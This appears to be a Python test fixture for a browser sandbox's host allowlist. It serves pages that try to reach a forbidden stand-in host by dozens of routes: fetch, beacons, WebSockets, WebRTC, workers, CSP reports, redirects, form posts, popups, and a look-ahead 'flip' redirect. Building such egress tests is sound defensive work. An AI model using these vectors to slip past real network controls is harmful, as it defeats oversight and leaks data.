"""Allowlist escape vectors: pages on an allowed host (127.0.0.1) that try to reach a
forbidden one (:class:`~tests.environments.browser.forbidden.ForbiddenHost`) every way a
page can, and the server that serves them.

``{F}`` in a page is the forbidden origin (``http://127.0.0.2:PORT``), ``{FS}`` the same host
over ``https``, ``{FP}`` its port and ``{A}`` the allowed origin. A vector is loaded, then
its trigger runs: ``load`` (nothing more), ``click:ID``/``hover:ID`` (real input on the
element), ``js:CODE`` (run in the page) or ``goto:URL`` (the agent navigates there).
"""

from __future__ import annotations

import http.server
import threading
from dataclasses import dataclass, field
from urllib.parse import parse_qs, urlsplit

REDIRECT_CODES = (301, 302, 303, 307, 308)


@dataclass(frozen=True)
class Vector:
    name: str
    html: str
    trigger: str = "load"
    headers: tuple[tuple[str, str], ...] = ()
    main_frame: bool = False
    """Whether the vector navigates the top frame (a blocked-navigation notice is expected)."""
    extra: dict[str, str] = field(default_factory=dict)


_WEBRTC = """<script>
const pc = new RTCPeerConnection({iceServers: [
  {urls: 'stun:127.0.0.2:{FP}'},
  {urls: 'turn:127.0.0.2:{FP}?transport=udp', username: 'u', credential: 'p'},
  {urls: 'turn:127.0.0.2:{FP}?transport=tcp', username: 'u', credential: 'p'},
  {urls: 'turns:127.0.0.2:{FP}?transport=tcp', username: 'u', credential: 'p'}]});
pc.createDataChannel('leak');
pc.onicecandidate = (e) => { if (e.candidate) document.title += ' ' + e.candidate.type; };
pc.createOffer().then((o) => pc.setLocalDescription(o));
</script>"""

_SUBRESOURCES = """<!doctype html><title>sub</title>
<link rel="stylesheet" href="{F}/leak/css">
<link rel="prefetch" href="{F}/leak/prefetch">
<link rel="preconnect" href="{F}">
<link rel="dns-prefetch" href="{F}">
<link rel="preload" as="image" href="{F}/leak/preload">
<link rel="icon" href="{F}/leak/icon">
<style>@import url("{F}/leak/import"); body {{ background: url("{F}/leak/bg"); }}
@font-face {{ font-family: leak; src: url("{F}/leak/font"); }} p {{ font-family: leak; }}</style>
<p>text</p>
<img src="{F}/leak/img"><img src="{FS}/leak/https-img">
<img src="{A}/redirect?to={F}/leak/img-redirect">
<video src="{F}/leak/video"></video><audio src="{F}/leak/audio"></audio>
<object data="{F}/leak/object"></object><embed src="{F}/leak/embed">
<iframe srcdoc='<img src="{F}/leak/srcdoc">'></iframe>
<script src="{F}/leak/script" async></script>
<script>
fetch('{F}/leak/fetch').catch(() => 0);
fetch('{A}/redirect?to={F}/leak/fetch-redirect').catch(() => 0);
fetch('{F}/leak/no-cors', {{mode: 'no-cors'}}).catch(() => 0);
fetch('{FS}/leak/https-fetch').catch(() => 0);
const x = new XMLHttpRequest(); x.open('GET', '{F}/leak/xhr'); x.send();
navigator.sendBeacon('{F}/leak/beacon', 'x');
new EventSource('{F}/leak/sse');
for (const u of ['ws://127.0.0.2:{FP}/leak/ws', 'wss://127.0.0.2:{FP}/leak/wss']) {{
  try {{ new WebSocket(u); }} catch (e) {{}}
}}
new Worker('{A}/worker.js');
try {{ new SharedWorker('{A}/worker.js?shared'); }} catch (e) {{}}
new Worker(URL.createObjectURL(new Blob(["fetch('{F}/leak/blob-worker').catch(() => 0)"])));
try {{ new Worker("data:text/javascript,fetch('{F}/leak/data-worker').catch(() => 0)"); }} catch (e) {{}}
try {{ new WebTransport('{FS}/leak/webtransport'); }} catch (e) {{}}
if (navigator.serviceWorker) navigator.serviceWorker.register('/sw.js').catch(() => 0);
</script>"""

WORKER_JS = """fetch('{F}/leak/worker-fetch').catch(() => 0);
try {{ importScripts('{F}/leak/import-scripts'); }} catch (e) {{}}
onconnect = () => 0;"""

SW_JS = "self.addEventListener('fetch', () => 0);"


def _nav(name: str, html: str, trigger: str = "load", **kw: object) -> Vector:
    return Vector(name=name, html="<!doctype html><title>" + name + "</title>" + html, trigger=trigger, **kw)  # type: ignore[arg-type]


VECTORS: tuple[Vector, ...] = (
    _nav("subresources", _SUBRESOURCES, headers=(("Link", "<{F}/leak/link-header>; rel=preload; as=image"),)),
    _nav(
        "csp-report",
        "<img src='/blocked-by-csp.png'>",
        headers=(("Content-Security-Policy", "img-src 'none'; report-uri {F}/leak/csp-report"),),
    ),
    _nav("webrtc", _WEBRTC),
    _nav("link-click", "<a id=go href='{F}/leak/link'>go</a>", "click:go", main_frame=True),
    _nav("link-hover", "<a id=go href='{F}/leak/hover' style='font-size:40px'>hover me</a>", "hover:go"),
    _nav("location-href", "", "js:location.href = '{F}/leak/location'", main_frame=True),
    _nav("location-replace", "", "js:location.replace('{F}/leak/replace')", main_frame=True),
    _nav("location-https", "", "js:location.href = '{FS}/leak/https-nav'", main_frame=True),
    _nav(
        "form-get",
        "<form id=f action='{F}/leak/form-get'><input name=q value=1></form>",
        "js:document.getElementById('f').submit()",
        main_frame=True,
    ),
    _nav(
        "form-post",
        "<form id=f method=post action='{F}/leak/form-post'><input name=q value=1></form>",
        "js:document.getElementById('f').submit()",
        main_frame=True,
    ),
    _nav(
        "form-post-307",
        "<form id=f method=post action='{A}/redirect?code=307&to={F}/leak/post-307'><input name=q></form>",
        "js:document.getElementById('f').submit()",
        main_frame=True,
    ),
    _nav("meta-refresh", "<meta http-equiv=refresh content='0;url={F}/leak/meta'>", main_frame=True),
    _nav("refresh-header", "", headers=(("Refresh", "0;url={F}/leak/refresh-header"),), main_frame=True),
    _nav("window-open", "", "js:window.open('{F}/leak/window-open')", main_frame=True),
    _nav("blank-link", "<a id=go target=_blank href='{F}/leak/blank'>tab</a>", "click:go", main_frame=True),
    _nav("popup-write", "", "js:window.open('').document.write(\"<img src='{F}/leak/popup'>\")"),
    _nav("frame-src", "<iframe src='{F}/leak/frame'></iframe>"),
    _nav("frame-redirect", "<iframe src='{A}/redirect?to={F}/leak/frame-redirect'></iframe>"),
    _nav("frame-navigate", "<iframe src='/blank.html'></iframe>", "js:frames[0].location = '{F}/leak/frame'"),
    _nav(
        "top-from-frame",
        "<iframe srcdoc=\"<script>top.location = '{F}/leak/top-from-frame'</script>\"></iframe>",
        main_frame=True,
    ),
    _nav("ping", "<a id=go ping='{F}/leak/ping' href='/blank.html'>ping</a>", "click:go"),
    _nav("download", "<a id=go download href='{F}/leak/download'>download</a>", "click:go"),
    _nav(
        "unload-beacon",
        "<script>addEventListener('pagehide', () => navigator.sendBeacon('{F}/leak/unload'));</script>",
        "goto:{A}/blank.html",
    ),
    _nav(
        "data-page",
        "",
        "goto:data:text/html,<img src='{F}/leak/data-img'><script>setTimeout(() => location.href = "
        "'{F}/leak/data-nav', 50)</script>",
        main_frame=True,
    ),
    _nav(
        "blob-page",
        "<script>const b = new Blob([\"<img src='{F}/leak/blob-img'><script>location.href='{F}/leak/blob-nav'"
        '</scr" + "ipt>"], {{type: \'text/html\'}}); window.blobUrl = URL.createObjectURL(b);</script>',
        "js:location.href = window.blobUrl",
        main_frame=True,
    ),
    _nav("js-after-redirect", "", "goto:{A}/redirect?to={A}/v/js-redirect", main_frame=True),
    _nav("js-redirect", "<script>location.href = '{F}/leak/js-redirect'</script>", main_frame=True),
)


def chain_url(origin: str, hops: int, final: str, code: int = 302) -> str:
    """A redirect chain of ``hops`` allowed hops that ends in ``final``."""
    return f"{origin}/chain?n={hops}&code={code}&to={final}"


class _Handler(http.server.BaseHTTPRequestHandler):
    server: _Server

    def do_GET(self) -> None:
        self.server.owner.record(self.path)
        parts = urlsplit(self.path)
        q = {k: v[0] for k, v in parse_qs(parts.query).items()}
        route = parts.path
        if route == "/redirect":
            self._redirect(int(q.get("code", "302")), q["to"])
        elif route == "/chain":
            n = int(q["n"])
            nxt = q["to"] if n <= 1 else chain_url(self.server.owner.origin, n - 1, q["to"], int(q["code"]))
            self._redirect(int(q["code"]), nxt)
        elif route == "/flip":
            # answers a page the first time and a redirect to the forbidden host afterwards: a
            # router that looks ahead with its own request is shown a different answer
            first = self.server.owner.count(self.path) == 1
            if first:
                self._send(200, "<title>flip</title><p>allowed answer</p>")
            else:
                self._redirect(302, q["to"])
        elif route.startswith("/v/"):
            self._vector(route[3:])
        elif route in ("/worker.js", "/sw.js"):
            body = WORKER_JS if route == "/worker.js" else SW_JS
            self._send(200, self.server.owner.fill(body), "text/javascript")
        else:
            self._send(200, f"<title>{route.strip('/') or 'home'}</title><input id=box><p>allowed</p>")

    do_POST = do_GET

    def _vector(self, name: str) -> None:
        owner = self.server.owner
        vector = owner.vectors.get(name)
        if vector is None:
            self._send(404, "no such vector")
            return
        headers = [(k, owner.fill(v)) for k, v in vector.headers]
        self._send(200, owner.fill(vector.html), headers=headers)

    def _redirect(self, code: int, to: str) -> None:
        self.send_response(code)
        self.send_header("Location", to)
        self.send_header("Content-Length", "0")
        self.end_headers()

    def _send(
        self, code: int, body: str, ctype: str = "text/html", headers: list[tuple[str, str]] | None = None
    ) -> None:
        data = body.encode()
        length = int(self.headers.get("Content-Length") or 0)
        if length:
            self.rfile.read(length)
        self.send_response(code)
        self.send_header("Content-Type", ctype)
        self.send_header("Content-Length", str(len(data)))
        for k, v in headers or []:
            self.send_header(k, v)
        self.end_headers()
        self.wfile.write(data)

    def log_message(self, format: str, *args: object) -> None:
        return


class _Server(http.server.ThreadingHTTPServer):
    daemon_threads = True
    owner: VectorServer


class VectorServer:
    """Serves :data:`VECTORS` on 127.0.0.1; records every path it was asked for."""

    def __init__(self, forbidden_port: int) -> None:
        self.forbidden_port = forbidden_port
        self.vectors = {v.name: v for v in VECTORS}
        self.paths: list[str] = []
        self._lock = threading.Lock()
        self.httpd = _Server(("127.0.0.1", 0), _Handler)
        self.httpd.owner = self
        self.origin = f"http://127.0.0.1:{self.httpd.server_address[1]}"
        self._thread = threading.Thread(target=self.httpd.serve_forever, daemon=True)

    def __enter__(self) -> VectorServer:
        self._thread.start()
        return self

    def __exit__(self, *exc: object) -> None:
        self.httpd.shutdown()
        self.httpd.server_close()

    def record(self, path: str) -> None:
        with self._lock:
            self.paths.append(path)

    def count(self, path: str) -> int:
        with self._lock:
            return self.paths.count(path)

    def fill(self, text: str) -> str:
        port = self.forbidden_port
        return (
            text.replace("{F}", f"http://127.0.0.2:{port}")
            .replace("{FS}", f"https://127.0.0.2:{port}")
            .replace("{FP}", str(port))
            .replace("{A}", self.origin)
            .replace("{{", "{")
            .replace("}}", "}")
        )

    def url(self, path: str) -> str:
        return f"{self.origin}/{path.lstrip('/')}"
